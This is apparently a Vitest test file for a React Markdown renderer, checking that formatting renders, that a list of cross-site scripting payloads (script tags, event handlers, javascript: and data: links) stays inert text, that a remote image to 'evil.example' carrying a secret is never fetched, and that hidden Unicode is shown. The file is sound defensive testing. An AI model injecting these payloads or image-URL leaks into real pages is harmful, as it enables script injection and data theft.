// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { Markdown, visible } from "./Markdown";

afterEach(cleanup);
const html = (text: string) => render(<Markdown text={text} />).container;

test("paragraphs, emphasis, code and lists become elements", () => {
  const box = html("Made **two** parts in `App.tsx`:\n\n- one\n- two\n\n```ts\nconst a = 1 < 2\n```");
  expect(box.querySelector("strong")?.textContent).toBe("two");
  expect(box.querySelector("code")?.textContent).toBe("App.tsx");
  expect(box.querySelectorAll("li")).toHaveLength(2);
  expect(box.querySelector("pre")?.textContent).toBe("const a = 1 < 2");
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "hello <b onclick=alert(1)>you</b>",
  "[x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  "<svg/onload=alert(1)>",
  "[x](vbscript:msgbox(1))",
  "<a href=\"javascript:alert(1)\">x</a>",
])("%s is text", (payload) => {
  const box = html(payload);
  expect(box.querySelector("script, img, svg, b, a, iframe")).toBeNull();
});

test("a remote picture is a named link, never fetched", () => {
  const box = html("![chart](https://evil.example/?secret=1)");
  expect(box.querySelector("img")).toBeNull();
  const link = box.querySelector("a");
  expect(link?.textContent).toBe("chart (evil.example)");
  expect(link?.rel).toBe("noopener noreferrer");
});

test("entities are read once, and hidden characters are shown", () => {
  expect(html("a &lt;b&gt; & `x && y`").textContent).toBe("a <b> & x && y");
  expect(visible("abc\u202Etxt.exe")).toBe("abc⟨U+202E⟩txt.exe");
});
